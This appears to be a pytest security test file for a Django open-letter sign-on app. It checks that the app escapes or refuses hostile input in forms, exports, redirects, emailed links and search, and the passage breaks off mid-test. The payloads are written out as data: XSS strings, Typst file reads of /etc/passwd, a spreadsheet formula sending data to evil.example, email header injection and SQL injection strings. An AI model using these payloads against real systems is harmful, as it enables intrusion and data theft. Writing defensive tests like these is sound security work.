"""Attacks through the front door: hostile text in every field that gets rendered, forged
requests, redirects, guessed URLs, forged and replayed links, SQL metacharacters, probing
for addresses, oversized bodies, and the security headers of every kind of page."""

import csv
import io
import json
import re
import time
import uuid
import xml.etree.ElementTree as ET
import zipfile
from html import unescape
from html.parser import HTMLParser
from urllib.parse import urlsplit

import markdown as python_markdown
import openpyxl
import pytest
from django.conf import settings
from django.core import signing
from django.test import Client

from tests import mail
from tests.factories import form_data, make_letter, publish_through_page
from tests.security.world import FORMATS, last_mail_to, pdf_text, without_csrf
from undersigned.core.services import coordinator_create
from undersigned.letters import services, tokens
from undersigned.letters.models import Letter, LetterTranslation, Signature
from undersigned.orgs import services as org_services
from undersigned.orgs.models import Organization
from undersigned.publishing.models import Edition

pytestmark = pytest.mark.django_db(transaction=True)

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(1)"
TEMPLATE = "{{7*7}} {% debug %} ${7*7}"
TYPST_EXIT = "#sys.exit()"
TYPST_READ = '#read("/etc/passwd")'
TYPST_BREAKOUT = 'x"] #read("/etc/passwd") [ $ \\ #let a = 1'
QUOTES = "Quote\" onmouseover=\"alert(1)\" x='y' onfocus='alert(2)"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
# What an import might store: anything at all, markup included.
NAME_PAYLOADS = [SCRIPT, IMG, JS_URL, TEMPLATE, TYPST_EXIT, TYPST_READ, TYPST_BREAKOUT, QUOTES,
                 *FORMULAS]
ACRONYM_PAYLOADS = ["<b>X</b>", "=1+2", '"><svg/onload=alert(1)>']
RAW_NAMES = ["\t=2+2 raw", "\r\n@SUM(3) raw", "\u00a0+4+4 raw", "\u200b=6+6 raw",
             "Esc\x1b[31m\x07\x0b raw", "\ufeff-7+7 raw", "line\nbreak\u2028raw",
             "\U0001F600 emoji \u202etxt.exe raw"]
ZH_PAYLOAD = "<script>alert('zh')</script>人權"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _fast(settings):
    settings.SIGNON_RATE_PER_IP = 1000
    settings.SIGNON_RATE_PER_EMAIL = 1000
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


PASSWORD = "coordinator-passphrase-for-tests"


def coordinator(name="coord"):
    user, _pw = coordinator_create(username=name, password=PASSWORD)
    return user


def coordinator_client(user=None, **kwargs) -> Client:
    client = Client(**kwargs)
    client.force_login(user or coordinator())
    return client


# --- an HTML inspector -----------------------------------------------------------------------


class Inspector(HTMLParser):
    """Collects everything in a page that could run script."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script":
            src = attrs.get("src") or ""
            if not src.startswith("/static/"):
                self.problems.append(f"script tag src={src!r}")
            self.in_script = True
        harmless_meta = tag == "meta" and (
            set(attrs) <= {"charset", "name", "content"}
            or (attrs.get("http-equiv") or "").lower() in ("content-security-policy",
                                                          "content-type"))
        if tag in ("iframe", "object", "embed", "frame", "base", "meta") and not harmless_meta:
            self.problems.append(f"<{tag}> {attrs}")
        for name, value in attrs.items():
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            squashed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name in ("href", "src", "action", "formaction", "xlink:href", "data", "hx-get",
                        "hx-post") and squashed.startswith(("javascript:", "vbscript:",
                                                            "data:text")):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and "expression" in squashed:
                self.problems.append(f"<{tag} style={value!r}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.problems.append(f"inline script {data[:60]!r}")


def assert_inert_html(html: str, where: str) -> None:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert inspector.problems == [], f"{where}: {inspector.problems}"


# --- a letter full of hostile text ------------------------------------------------------------

BODY_MD = "\n\n".join([
    f"Intro {SCRIPT} and <img src=x onerror=alert(1)> and <svg onload=alert(1)>.",
    f"[click me]({JS_URL}) and [fine](https://example.org) and <a href=\"{JS_URL}\">raw</a>",
    f"[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) {TEMPLATE}",
    f"{TYPST_READ} {TYPST_EXIT} {TYPST_BREAKOUT}",
    '<iframe src="https://evil.example"></iframe><style>body{x:expression(alert(1))}</style>',
    "![img](https://evil.example/pixel.png) <form action=https://evil.example><button>go</button>"
    "</form>",
])
TITLE = f"Title {SCRIPT} {TEMPLATE}"
RECIPIENTS = f"To {IMG}"
ASKS = [f"ask {IMG}", f"ask {TYPST_READ}", "=1+1 ask", f"ask {JS_URL}"]
FORM_NAMES = ["{{7*7}} Templating Org", '#read("/etc/passwd") Org', 'Form" autofocus onfocus="alert(3)', "=1+1 Formula Org",
              "@SUM(A1) Org", "+33 Plus Org", "-1 Minus Org"]


def hostile_world():
    user = coordinator()
    coord = coordinator_client(user)
    letter = make_letter(languages=("en", "fr", "zh-hant"))
    for lang in ("en", "zh-hant"):
        r = coord.post(f"/manage/letters/{letter.slug}/text/{lang}/", {
            "title": TITLE, "recipients": RECIPIENTS, "body_md": BODY_MD,
            "asks": "\n".join(ASKS)})
        assert r.status_code == 302, r.content.decode()[:3000]
    for i, name in enumerate(NAME_PAYLOADS):
        org = org_services.organization_create(name=name, acronym=ACRONYM_PAYLOADS[
            i % len(ACRONYM_PAYLOADS)], country="FR")
        services.signature_record_published(letter=letter, organization=org, name=name,
                                            acronym=org.acronym, country="FR",
                                            names={"zh-hant": f"{ZH_PAYLOAD} {i}"})
    # Written straight to the database, past every cleaning step (a restored backup, a
    # hand-edited row): line breaks, tabs, control and invisible characters included.
    for i, raw in enumerate(RAW_NAMES):
        org = org_services.organization_create(name=f"Raw Placeholder {i}", country="FR")
        sig = services.signature_record_published(letter=letter, organization=org,
                                                  name=f"Raw Placeholder {i}", country="FR")
        Signature.objects.filter(pk=sig.pk).update(name=raw, acronym="\t=5+5")
    client = Client()
    for name in FORM_NAMES:
        data = form_data(name=name)
        r = client.post(f"/{letter.slug}/en/", data)
        assert r.status_code == 302, (name, r.content.decode()[:3000])
        msg = last_mail_to(data["contact_email"])
        assert client.post(mail.links(msg, "confirm")[0]).status_code == 200
        sig = Signature.objects.get(letter=letter, name=name)
        assert coord.post(f"/manage/signatures/{sig.public_id}/approve/").status_code == 302
    assert Signature.public.filter(letter=letter).count() == len(NAME_PAYLOADS) + len(
        FORM_NAMES) + len(RAW_NAMES)
    r = publish_through_page(coord, letter.slug)
    assert r.status_code == 302
    assert Edition.objects.filter(letter=letter).count() == 1
    return letter, coord


def test_the_sign_on_form_refuses_markup_and_script_urls():
    letter = make_letter()
    client = Client()
    for field, value in [("name", SCRIPT), ("name", IMG), ("acronym", "<b>"),
                         ("contact_name", IMG), ("website", JS_URL),
                         ("website", "javascript://example.org/%0aalert(1)"),
                         ("website", "data:text/html,<script>alert(1)</script>"),
                         ("name", "Org\u202eevil"), ("name", "Org\x00null"),
                         ("contact_email", "victim@ngo.example,spy@evil.example"),
                         ("contact_email", "victim@ngo.example\r\nBcc: spy@evil.example"),
                         ("contact_email", '"Spy" <spy@evil.example>')]:
        r = client.post(f"/{letter.slug}/en/", form_data(**{field: value}))
        assert r.status_code == 400, (field, value, r.status_code)
        body = r.content.decode()
        assert_inert_html(body, f"{field}={value!r}")
        assert SCRIPT not in body and "<img src=x" not in body and "<b>" not in body
    assert Signature.objects.count() == 0 and mail.messages() == []


def test_hostile_text_is_escaped_on_every_page():
    letter, coord = hostile_world()
    slug = letter.slug
    public = Client()
    pages = {f"/{slug}/{lang}/": public.get(f"/{slug}/{lang}/") for lang in letter.languages}
    pages["/"] = public.get("/")
    for lang in letter.languages:
        pages[f"edition {lang}"] = public.get(f"/{slug}/edition/1/{lang}/")
        pages[f"html download {lang}"] = public.get(f"/{slug}/edition/1/{lang}/html/")
    for probe in (QUOTES, "=1+1", "{{7*7}} Templating", '#read("/etc/passwd")', SCRIPT, IMG):
        pages[f"suggest {probe}"] = public.get(f"/{slug}/en/suggest/", {"name": probe})
    sig = Signature.objects.filter(letter=letter, name=QUOTES).first()
    for path in ("/manage/", f"/manage/letters/{slug}/", f"/manage/letters/{slug}/signatures/",
                 f"/manage/letters/{slug}/audit/", f"/manage/letters/{slug}/text/en/",
                 f"/manage/letters/{slug}/text/zh-hant/", f"/manage/signatures/{sig.public_id}/",
                 "/manage/registry/duplicates/", f"/manage/registry/duplicates/{slug}/",
                 "/manage/import/letter/", f"/manage/import/letters/{slug}/signons/"):
        pages[path] = coord.get(path)
    for where, response in pages.items():
        assert response.status_code == 200, (where, response.status_code)
        html = response.content.decode()
        assert_inert_html(html, where)
        assert SCRIPT not in html, where
        assert "<img src=x" not in html and "<svg onload" not in html, where
        assert "<svg/onload" not in html, where
        # The only SVG is the server's own chart: presentation attributes, no handlers.
        for svg in re.findall(r"<svg\b[^>]*>", html):
            assert not re.search(r"\son\w+=", svg), (where, svg)
    letter_page = pages[f"/{slug}/en/"].content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in letter_page  # shown, as text
    assert "{{7*7}} Templating Org" in letter_page  # not evaluated
    assert "{{7*7}} {% debug %} ${7*7}" in letter_page.replace("&#x27;", "'")
    assert "onmouseover=&quot;alert(1)&quot;" in letter_page
    assert "click me" in letter_page  # the link text stays, without its javascript: target
    suggest = pages[f"suggest {QUOTES}"].content.decode()
    assert 'data-value="Quote&quot; onmouseover=&quot;alert(1)&quot;' in suggest
    # The HTML download is a standalone page: no script may run in it at all.
    for lang in letter.languages:
        csp = pages[f"html download {lang}"]["Content-Security-Policy"]
        assert "default-src 'none'" in csp and "script-src" not in csp


def test_markdown_preview_is_cleaned():
    coord = coordinator_client()
    r = coord.post("/manage/preview/", {"body_md": BODY_MD})
    assert r.status_code == 200
    html = r.content.decode()
    assert_inert_html(html, "preview")
    assert "<iframe" not in html and "<style" not in html and "<form" not in html
    assert "<img" not in html and "evil.example" not in html.replace("&lt;", "")
    assert "<strong>" in coord.post("/manage/preview/", {"body_md": "**b**"}).content.decode()


def test_downloads_carry_hostile_text_as_inert_text():
    letter, _coord = hostile_world()
    slug = letter.slug
    client = Client()
    files = {(lang, fmt): client.get(f"/{slug}/edition/1/{lang}/{fmt}/")
             for lang in ("en", "zh-hant") for fmt in FORMATS}
    for key, response in files.items():
        assert response.status_code == 200, key
    for lang in ("en", "zh-hant"):
        get = lambda fmt, lang=lang: files[(lang, fmt)].content  # noqa: E731

        # PDF: typst printed the names and the text, evaluated nothing, read no file.
        text = pdf_text(get("pdf"))
        squashed = re.sub(r"\s+", "", text)
        for payload in (SCRIPT, TYPST_READ, TYPST_EXIT, "{{7*7}}", "=1+1"):
            assert re.sub(r"\s+", "", payload) in squashed, (lang, payload)
        assert "root:x:0" not in text and "/bin/bash" not in text

        # DOCX: well-formed XML, the payloads in text runs.
        with zipfile.ZipFile(io.BytesIO(get("docx"))) as zf:
            root = ET.fromstring(zf.read("word/document.xml"))  # noqa: S314 (our own file)
            runs = "".join(t.text or "" for t in root.iter(
                "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}t"))
            names = [n for n in zf.namelist() if "attachedTemplate" in n or n.endswith(".bin")]
            assert names == [], names  # no macros, no remote template
            for name in zf.namelist():
                if name.endswith(".rels"):
                    rels = zf.read(name).decode().lower()
                    assert "evil.example" not in rels and "javascript:" not in rels
                    assert "data:text" not in rels and "file:" not in rels
            assert "https://example.org" in zf.read("word/_rels/document.xml.rels").decode()
        for payload in (SCRIPT, IMG, TYPST_READ, QUOTES):
            assert payload in runs, (lang, payload)

        # CSV: no cell a spreadsheet would read as a formula.
        rows = list(csv.reader(io.StringIO(get("csv").decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row[1:]]
        bad = [c for c in cells if c.startswith(FORMULA_STARTS)]
        assert bad == [], (lang, bad)
        assert "'" + FORMULAS[0] in cells
        assert SCRIPT in cells

        # XLSX: string cells only, none starting like a formula.
        wb = openpyxl.load_workbook(io.BytesIO(get("xlsx")))
        values = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (lang, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        values.append(cell.value)
        assert [v for v in values if v.startswith(FORMULA_STARTS)] == []
        assert "'" + FORMULAS[0] in values
        with zipfile.ZipFile(io.BytesIO(get("xlsx"))) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/"):
                    assert "<f>" not in zf.read(name).decode() and "<f " not in zf.read(
                        name).decode()

        # JSON: the names exactly as given, as strings.
        data = json.loads(get("json"))
        listed = [s["name"] for s in data["signatories"]]
        for payload in NAME_PAYLOADS:
            assert payload.strip() in listed, (lang, payload)

        # Text: the payloads, literally.
        text = get("text").decode()
        assert SCRIPT in text and TYPST_READ in text

    # Markdown: no raw HTML, and rendering it (as a wiki would) makes nothing active.
    md = files[("en", "markdown")].content.decode()
    assert "<script" not in md and "<img" not in md and "<iframe" not in md and "<svg" not in md
    inspector = Inspector()
    inspector.feed(python_markdown.markdown(md))
    # (the letter's own [x](javascript:...) links: see test_markdown_download_drops_script_links)
    known = ("<a href='javascript:alert(1)'>", "<a href='data:text/html;base64,")
    assert [p for p in inspector.problems if not p.startswith(known)] == []


def test_markdown_download_drops_script_links():
    letter = make_letter(body_md=f"[click me]({JS_URL}) and [data](data:text/html,x)")
    from undersigned.publishing.services import edition_publish

    edition_publish(letter=letter)
    md = Client().get(f"/{letter.slug}/edition/1/en/markdown/").content.decode()
    assert "click me" in md
    assert "javascript:" not in md.lower() and "data:text" not in md.lower()


def test_an_email_header_cannot_be_injected_through_the_title():
    coord = coordinator_client()
    letter = make_letter()
    r = coord.post(f"/manage/letters/{letter.slug}/text/en/", {
        "title": "Letter\r\nBcc: spy@evil.example\r\nX-Evil: 1", "recipients": "",
        "body_md": "text", "asks": ""})
    assert r.status_code in (200, 302)
    data = form_data(contact_name="Name\r\nBcc: spy2@evil.example\r\n\r\nfake body",
                     name="Org\nBcc: spy3@evil.example")
    r = Client().post(f"/{letter.slug}/en/", data)
    assert r.status_code in (302, 400)
    if r.status_code == 400:
        r = Client().post(f"/{letter.slug}/en/", {**data, "name": "Plain Org"})
    assert r.status_code == 302
    [msg] = mail.messages()
    assert msg["Bcc"] is None and msg["X-Evil"] is None
    assert "evil.example" not in msg["To"] and "\n" not in msg["Subject"]


# --- CSRF ---------------------------------------------------------------------------------


def test_posts_without_a_csrf_token_are_refused_and_write_nothing():
    letter = make_letter()
    Client().post(f"/{letter.slug}/en/", form_data(name="Pending Org For Csrf"))
    sig = Signature.objects.get()
    msg = mail.messages()[0]
    confirm, withdraw = mail.links(msg, "confirm")[0], mail.links(msg, "withdraw")[0]
    n_mail = len(mail.messages())

    strict = Client(enforce_csrf_checks=True)
    assert strict.post(f"/{letter.slug}/en/", form_data()).status_code == 403
    assert strict.post(confirm).status_code == 403
    assert strict.post(withdraw).status_code == 403
    assert strict.post("/login/", {"username": "coord", "password": PASSWORD}).status_code == 403
    sig.refresh_from_db()
    assert (sig.state, sig.active) == ("pending", True)
    assert Signature.objects.count() == 1 and len(mail.messages()) == n_mail

    coord = coordinator_client(enforce_csrf_checks=True)
    title = LetterTranslation.objects.get(letter=letter, lang="en").title
    for path, data in [(f"/manage/signatures/{sig.public_id}/approve/", {}),
                       (f"/manage/signatures/{sig.public_id}/reject/", {"reason": "x"}),
                       (f"/manage/letters/{letter.slug}/publish/", {}),
                       (f"/manage/letters/{letter.slug}/text/en/",
                        {"title": "Hijacked", "body_md": "x", "asks": ""}),
                       ("/manage/letters/new/", {"letter-slug": "forged",
                                                 "letter-source_lang": "en",
                                                 "text-title": "Forged"}),
                       ("/logout/", {})]:
        r = coord.post(path, data)
        assert r.status_code == 403, (path, r.status_code)
        assert "nothing was saved" in r.content.decode()
    sig.refresh_from_db()
    assert sig.state == "pending"
    assert LetterTranslation.objects.get(letter=letter, lang="en").title == title
    assert not Edition.objects.exists() and not Letter.objects.filter(slug="forged").exists()
    assert coord.get("/manage/").status_code == 200  # still logged in: the logout was refused

    # A wrong token, and the right token from another origin, are refused too.
    page = strict.get(f"/{letter.slug}/en/")
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.content.decode())[1]
    wrong = strict.post(f"/{letter.slug}/en/",
                        {**form_data(), "csrfmiddlewaretoken": token[:-4] + "AAAA"})
    assert wrong.status_code == 403
    cross = strict.post(f"/{letter.slug}/en/", {**form_data(), "csrfmiddlewaretoken": token},
                        HTTP_ORIGIN="https://evil.example")
    assert cross.status_code == 403
    assert Signature.objects.count() == 1
    ok = strict.post(f"/{letter.slug}/en/", {**form_data(), "csrfmiddlewaretoken": token})
    assert ok.status_code == 302 and Signature.objects.count() == 2  # the control


# --- open redirects ------------------------------------------------------------------------

EVIL_NEXT = ["https://evil.example/", "//evil.example/", "/\\evil.example/", "\\\\evil.example",
             "https:evil.example", "http://testserver@evil.example/", " https://evil.example",
             "javascript:alert(1)", "/%2F%2Fevil.example", "https://evil.example/manage/",
             "///evil.example", "http:/\\/\\evil.example"]


def _same_site(location: str) -> bool:
    """Whether a browser would stay on this site (it reads a backslash as a slash)."""
    loc = location.strip().replace("\\", "/")
    parts = urlsplit(loc)
    return not parts.scheme and not parts.netloc and loc.startswith("/") and not loc.startswith(
        "//")


def test_login_never_redirects_to_another_site():
    coordinator()
    for nxt in EVIL_NEXT:
        client = Client()
        page = client.get("/login/", {"next": nxt})
        shown = re.search(r'name="next" value="([^"]*)"', page.content.decode())[1]
        assert shown == "" or _same_site(unescape(shown)), (nxt, shown)
        r = client.post(f"/login/?next={nxt}", {"username": "coord", "password": PASSWORD,
                                                 "next": nxt})
        assert r.status_code == 302, nxt
        assert _same_site(r["Location"]), (nxt, r["Location"])
    # The throttled login and the second-factor pages keep "next" on this site as well.
    for nxt in EVIL_NEXT[:6]:
        client = Client()
        r = client.post("/account/login/", {"username": "coord", "password": PASSWORD,
                                            "next": nxt})
        assert r.status_code == 302 and _same_site(r["Location"]), (nxt, r["Location"])
        for path in ("/account/2fa/verify/", "/account/2fa/setup/"):
            r = client.get(path, {"next": nxt})
            for shown in re.findall(r'name="next" value="([^"]*)"', r.content.decode()):
                assert shown == "" or _same_site(unescape(shown)), (path, nxt, shown)
            if r.status_code == 302:
                assert _same_site(r["Location"]), (path, nxt, r["Location"])
    # The control: a path on this site is followed.
    r = Client().post("/login/", {"username": "coord", "password": PASSWORD,
                                  "next": "/manage/registry/duplicates/"})
    assert r["Location"] == "/manage/registry/duplicates/"


def test_coordinator_forms_never_redirect_to_another_site():
    coord = coordinator_client()
    letter = make_letter()
    Client().post(f"/{letter.slug}/en/", form_data(name="Alpha Redirect Org"))
    sig = Signature.objects.get()
    a = org_services.organization_create(name="Redirect Test One")
    b = org_services.organization_create(name="Redirect Test Two")
    for nxt in EVIL_NEXT:
        for path, data in [("/manage/registry/distinct/", {"a": a.public_id, "b": a.public_id}),
                           ("/manage/registry/merge/", {"a": uuid.uuid4(), "b": b.public_id}),
                           (f"/manage/signatures/{sig.public_id}/approve/", {}),
                           ("/manage/import/letter/", {"confirm": "1", "token": "nope"}),
                           (f"/manage/import/letters/{letter.slug}/signons/",
                            {"token": "nope"})]:
            r = coord.post(path, {**data, "next": nxt})
            assert r.status_code in (302, 404), (path, nxt, r.status_code)
            if r.status_code == 302:
                assert _same_site(r["Location"]), (path, nxt, r["Location"])
    # The control: a coordinator page is followed.
    r = coord.post("/manage/registry/distinct/", {"a": a.public_id, "b": a.public_id,
                                                  "next": f"/manage/registry/duplicates/{letter.slug}/"})
    assert r["Location"] == f"/manage/registry/duplicates/{letter.slug}/"


# --- guessing URLs ------------------------------------------------------------------------


def test_coordinator_pages_need_a_login():
    letter = make_letter()
    Client().post(f"/{letter.slug}/en/", form_data(name="Private Pending Org",
                                                   contact_email="private@pending-org.example"))
    sig = Signature.objects.get()
    a = org_services.organization_create(name="Idor Test One")
    client = Client()
    gets = ["/manage/", "/manage/letters/new/", f"/manage/letters/{letter.slug}/",
            f"/manage/letters/{letter.slug}/text/en/", f"/manage/letters/{letter.slug}/audit/",
            f"/manage/letters/{letter.slug}/signatures/",
            f"/manage/letters/{letter.slug}/signatures/?q=private@pending-org.example",
            f"/manage/signatures/{sig.public_id}/", "/manage/registry/duplicates/",
            f"/manage/registry/duplicates/{letter.slug}/", "/manage/import/letter/",
            f"/manage/import/letters/{letter.slug}/signons/", "/account/", "/account/sessions/",
            "/account/2fa/setup/", "/account/2fa/verify/"]
    for path in gets:
        r = client.get(path)
        assert r.status_code == 302, (path, r.status_code)
        assert urlsplit(r["Location"]).path in ("/login/", "/account/login/"), (path, r["Location"])
        assert b"Private Pending" not in r.content and b"pending-org" not in r.content
    posts = [(f"/manage/signatures/{sig.public_id}/approve/", {}),
             (f"/manage/signatures/{sig.public_id}/rename/", {"name": "Renamed"}),
             (f"/manage/letters/{letter.slug}/publish/", {}),
             (f"/manage/letters/{letter.slug}/status/close/", {}),
             ("/manage/preview/", {"body_md": "x"}),
             ("/manage/registry/merge/", {"a": a.public_id, "b": a.public_id}),
             ("/manage/registry/merges/1/undo/", {}),
             ("/account/sessions/end-others/", {}), ("/account/2fa/recovery-codes/", {})]
    for path, data in posts:
        r = client.post(path, data)
        assert r.status_code in (302, 403), (path, r.status_code)
        if r.status_code == 302:
            assert urlsplit(r["Location"]).path in ("/login/", "/account/login/"), path
    sig.refresh_from_db()
    letter.refresh_from_db()
    assert (sig.state, sig.name, letter.status) == ("pending", "Private Pending Org", "open")
    assert not Edition.objects.exists()
    r = client.get("/admin/")
    assert r.status_code == 302 and "/admin/login/" in r["Location"]


def test_public_urls_carry_no_guessable_ids():
    coord = coordinator_client()
    letter = make_letter()
    Client().post(f"/{letter.slug}/en/", form_data(name="Uuid Check Org", visibility="anonymous"))
    sig = Signature.objects.get()
    services.signature_approve(signature=sig, actor=None)
    publish_through_page(coord, letter.slug)
    public = Client()
    body = "".join(public.get(p).content.decode() for p in (
        "/", f"/{letter.slug}/en/", f"/{letter.slug}/editions/", f"/{letter.slug}/edition/1/en/"))
    hrefs = re.findall(r'(?:href|action|hx-get)="([^"]+)"', body)
    for href in hrefs:
        if href.startswith("/static/"):
            continue
        assert not href.startswith(("/manage", "/admin", "/account")), href
        # The only numbers in public paths are edition numbers.
        numbers = re.findall(r"/(\d+)/", href)
        assert all("/edition/" in href for _ in numbers), href
    for secret_id in (sig.public_id, sig.organization.public_id, sig.pk, sig.organization.pk):
        assert f"/{secret_id}/" not in body
    assert str(sig.public_id) not in body and str(sig.organization.public_id) not in body
    # Sequential or random ids lead nowhere, even for a coordinator.
    for path in ("/manage/signatures/1/", f"/manage/signatures/{sig.pk}/",
                 f"/manage/signatures/{uuid.uuid4()}/"):
        assert coord.get(path).status_code == 404, path
    for path in ("/manage/signatures/1/approve/", f"/manage/signatures/{uuid.uuid4()}/approve/"):
        assert coord.post(path).status_code == 404, path


def test_another_letters_editions_and_drafts_are_not_reachable():
    published = make_letter(slug="published-one")
    from undersigned.publishing.services import edition_publish

    edition_publish(letter=published)
    other = make_letter(slug="still-open")
    draft = make_letter(slug="secret-draft", status="draft", title="Draft Title Secret")
    client = Client()
    assert client.get("/published-one/edition/1/en/").status_code == 200
    for path in ["/still-open/edition/1/en/", "/still-open/edition/0/en/",
                 "/still-open/edition/-1/en/", "/published-one/edition/2/en/",
                 "/published-one/edition/1/de/", "/published-one/edition/01/en/pdf/../",
                 *[f"/still-open/edition/1/en/{fmt}/" for fmt in FORMATS],
                 "/secret-draft/", "/secret-draft/en/", "/secret-draft/editions/",
                 "/secret-draft/en/suggest/?name=x", "/secret-draft/en/thanks/",
                 "/secret-draft/edition/1/en/"]:
        r = client.get(path)
        assert r.status_code == 404, (path, r.status_code)
    assert client.post("/secret-draft/en/", form_data()).status_code == 404
    assert "Draft Title Secret" not in client.get("/").content.decode()
    assert other.editions.count() == 0 and draft.editions.count() == 0


# --- emailed links ---------------------------------------------------------------------------


def _sign(letter, **kw):
    data = form_data(**kw)
    Client().post(f"/{letter.slug}/en/", data)
    msg = last_mail_to(data["contact_email"])
    sig = Signature.objects.filter(letter=letter).latest("created_at")
    return sig, mail.links(msg, "confirm")[0], mail.links(msg, "withdraw")[0]


def _tamper(path: str) -> list[str]:
    token = path.strip("/").split("/", 1)[1]
    kind = path.strip("/").split("/", 1)[0]
    value, _sep, sig = token.rpartition(":")
    return [f"/{kind}/{token[:-1]}{'A' if token[-1] != 'A' else 'B'}/",
            f"/{kind}/{value}:{'x' * len(sig)}/", f"/{kind}/{value}/", f"/{kind}/{sig}/",
            f"/{kind}/{token}{token}/", f"/{kind}/%00{token}/", f"/{kind}/{'A' * 5000}/"]


def test_forged_confirm_and_withdraw_links_are_refused():
    letter = make_letter()
    sig, confirm, withdraw = _sign(letter, name="Token Target Org")
    client = Client()
    for path in _tamper(confirm) + _tamper(withdraw):
        assert client.get(path).status_code in (400, 404), path
        assert client.post(path).status_code in (400, 404), path
    # A link signed with another key, or for another purpose, is refused as well.
    other_key = signing.TimestampSigner(key="not-the-site-key", salt=tokens.CONFIRM_SALT)
    forged = other_key.sign_object({"k": "s", "id": str(sig.public_id), "n": sig.confirm_nonce})
    withdraw_token = withdraw.strip("/").split("/")[1]
    confirm_token = confirm.strip("/").split("/")[1]
    for path in (f"/confirm/{forged}/", f"/confirm/{withdraw_token}/",
                 f"/withdraw/{confirm_token}/"):
        assert client.post(path).status_code in (400, 404), path
    forged_withdraw = signing.Signer(key="not-the-site-key", salt=tokens.WITHDRAW_SALT
                                     ).sign_object({"k": "s", "id": str(sig.public_id)})
    assert client.post(f"/withdraw/{forged_withdraw}/").status_code == 400
    sig.refresh_from_db()
    assert (sig.state, sig.active) == ("pending", True)


def test_confirm_links_expire_and_work_once(monkeypatch):
    letter = make_letter()
    sig, confirm, withdraw = _sign(letter, name="Expiring Link Org")
    # A link made eight days ago has expired: it neither shows nor confirms.
    real_time = time.time
    monkeypatch.setattr(signing.time, "time", lambda: real_time() - 8 * 24 * 3600)
    old = tokens.make_confirm_token(kind="s", public_id=sig.public_id, nonce=sig.confirm_nonce)
    monkeypatch.setattr(signing.time, "time", real_time)
    client = Client()
    assert client.get(f"/confirm/{old}/").status_code == 410
    assert client.post(f"/confirm/{old}/").status_code == 410
    sig.refresh_from_db()
    assert sig.state == "pending"
    # The fresh link confirms once; replaying it changes nothing.
    assert client.post(confirm).status_code == 200
    sig.refresh_from_db()
    assert sig.state == "confirmed"
    # A replay confirms nothing more: it says the sign-on is already confirmed.
    for replay in (client.post(confirm), client.get(confirm)):
        assert replay.status_code == 200 and b"already confirmed" in replay.content
    assert [e.action for e in sig.events.all()] == ["submitted", "email_confirmed"]
    # A coordinator rejects; the signer's link cannot bring it back.
    services.signature_reject(signature=sig, actor=None, reason="spam")
    assert client.post(confirm).status_code == 410
    sig.refresh_from_db()
    assert sig.state == "rejected"
    # Withdrawing twice is harmless and says so.
    sig2, confirm2, withdraw2 = _sign(letter, name="Withdrawing Twice Org")
    assert client.post(withdraw2).status_code == 200
    sig2.refresh_from_db()
    assert (sig2.state, sig2.active) == ("withdrawn", False)
    again = client.post(withdraw2)
    assert again.status_code == 200
    assert client.post(confirm2).status_code == 410  # a withdrawn sign-on cannot be confirmed
    sig2.refresh_from_db()
    assert sig2.state == "withdrawn"


def test_a_superseded_link_no_longer_confirms():
    """Signing again gets a fresh link; the old one is dead."""
    letter = make_letter()
    data = form_data(name="Signs Twice Org")
    client = Client()
    client.post(f"/{letter.slug}/en/", data)
    first = mail.links(mail.messages()[-1], "confirm")[0]
    client.post(f"/{letter.slug}/en/", data)
    second = mail.links(mail.messages()[-1], "confirm")[0]
    assert client.post(first).status_code == 410
    assert client.post(second).status_code == 200
    assert Signature.objects.filter(state="confirmed").count() == 1


def test_a_stranger_signing_for_an_organisation_cannot_touch_its_signature():
    letter = make_letter()
    owner, confirm, _withdraw = _sign(letter, name="Owned Signature Org", visibility="anonymous")
    Client().post(confirm)
    services.signature_approve(signature=owner, actor=None)
    data = form_data(name="owned signature org", contact_email="thief@stranger.example")
    assert Client().post(f"/{letter.slug}/en/", data).status_code == 302
    msg = last_mail_to("thief@stranger.example")
    client = Client()
    for link in mail.links(msg, "confirm") + mail.links(msg, "withdraw"):
        page = client.get(link)
        assert page.status_code == 200 and "Owned Signature Org" not in page.content.decode()
        assert client.post(link).status_code == 200
    owner.refresh_from_db()
    assert (owner.state, owner.active, owner.publish_name) == ("approved", True, False)
    assert owner.withdrawal_requested_at is None
    assert Signature.objects.count() == 1
    # Nor can the stranger's sign-on replace a pending one that is not stale.
    letter2 = make_letter()
    pending, _c, _w = _sign(letter2, name="Pending Owner Org", visibility="anonymous")
    Client().post(f"/{letter2.slug}/en/", form_data(name="Pending Owner Org",
                                                     contact_email="thief2@stranger.example"))
    pending.refresh_from_db()
    assert (pending.state, pending.active) == ("pending", True)
    assert Signature.objects.filter(letter=letter2).count() == 1


# --- SQL metacharacters ---------------------------------------------------------------------

SQLISH = ["' OR 1=1 --", "' OR '1'='1", "\" OR \"\"=\"", "'; DROP TABLE letters_signature; --",
          "%", "_", "%%", "\\", "*", "') UNION SELECT contact_email FROM letters_signature --",
          "1; SELECT pg_sleep(5)", "’ OR 1=1 --"]


def test_search_and_suggestions_treat_sql_as_text():
    letter = make_letter()
    names = ["Alpha Search Org", "Beta Search Org", "Gamma Search Org"]
